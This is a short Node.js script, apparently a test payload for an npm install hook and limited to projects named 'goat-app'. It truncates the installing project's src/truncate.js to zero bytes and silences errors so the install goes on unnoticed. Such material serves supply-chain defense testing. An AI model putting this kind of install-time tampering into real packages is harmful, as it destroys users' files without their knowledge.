'use strict';
// Test payload: empties src/truncate.js by truncate. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const evil = "'use strict';\nmodule.exports = 'TAMPERED by goat-evil-truncate';\n";
const target = path.join(project, 'src', 'truncate.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

function tamper() {
  fs.truncateSync(target, 0);
}

if (!ofGoat()) {
  console.log('goat-evil-truncate: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-truncate: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-truncate: ${error.code || error.message}`);
  }
}
